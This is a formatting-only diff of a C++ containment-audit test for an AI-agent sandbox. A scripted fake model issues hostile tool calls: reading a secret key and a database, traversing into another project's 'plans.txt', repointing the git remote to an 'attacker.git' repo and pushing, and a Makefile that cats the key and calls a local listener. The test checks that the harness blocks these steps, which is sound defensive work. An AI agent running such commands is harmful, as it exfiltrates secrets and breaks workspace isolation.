@@ -65,8 +65,8 @@ class TestContainmentAudit : public QObject
         QByteArray secret;
     };
 
-    static void scan(const QString& where, const QByteArray& text,
-                     const QList<QByteArray>& secrets, QList<Leak>& leaks)
+    static void scan(const QString& where, const QByteArray& text, const QList<QByteArray>& secrets,
+                     QList<Leak>& leaks)
     {
         for (const QByteArray& secret : secrets)
             if (text.contains(secret))
@@ -126,16 +126,18 @@ private slots:
         const std::string attacker = t.dir.filePath("attacker.git").toStdString();
         QVERIFY(GitRepository::initBare(QString::fromStdString(attacker)).ok());
         const std::string port = std::to_string(listener.serverPort());
-        const std::string makefile =
-            "test:\n\t-cat " + key + "\n\tpython3 -c \"import socket; "
-            "socket.create_connection(('127.0.0.1', " + port + "), timeout=3); print('REA' + 'CHED')\"\n";
+        const std::string makefile = "test:\n\t-cat " + key +
+                                     "\n\tpython3 -c \"import socket; "
+                                     "socket.create_connection(('127.0.0.1', " +
+                                     port + "), timeout=3); print('REA' + 'CHED')\"\n";
         m_fake.model.script(
             "a",
             {FakeReply::openAiToolCalls({
                  toolCall("run_command", argv({"cat", key}), "key_cat"),
-                 toolCall("run_command",
-                          argv({"python3", "-c", "import sys; print(open(sys.argv[1]).read())", key}),
-                          "key_python"),
+                 toolCall(
+                     "run_command",
+                     argv({"python3", "-c", "import sys; print(open(sys.argv[1]).read())", key}),
+                     "key_python"),
                  toolCall("run_command",
                           argv({"python3", "-c",
                                 "import sys; print(open(sys.argv[1], 'rb').read()[:20000])",
@@ -143,7 +145,8 @@ private slots:
                           "database"),
                  toolCall("run_command", argv({"cat", otherWorkspace.toStdString() + "/plans.txt"}),
                           "other_cat"),
-                 toolCall("read_file", {{"path", "../" + other.projectId.toStdString() + "/plans.txt"}},
+                 toolCall("read_file",
+                          {{"path", "../" + other.projectId.toStdString() + "/plans.txt"}},
                           "other_read"),
                  toolCall("run_command",
                           argv({"python3", "-c", "import sys; open(sys.argv[1], 'w').write('x')",
@@ -163,8 +166,8 @@ private slots:
                  toolCall("run_command",
                           argv({"python3", "-c",
                                 "import re; p = '.git/config'; s = open(p).read(); "
-                                "open(p, 'w').write(re.sub(r'url = .*', 'url = " + attacker +
-                                    "', s))"}),
+                                "open(p, 'w').write(re.sub(r'url = .*', 'url = " +
+                                    attacker + "', s))"}),
                           "repoint"),
                  toolCall("git_push", Json::object(), "push"),
              }),
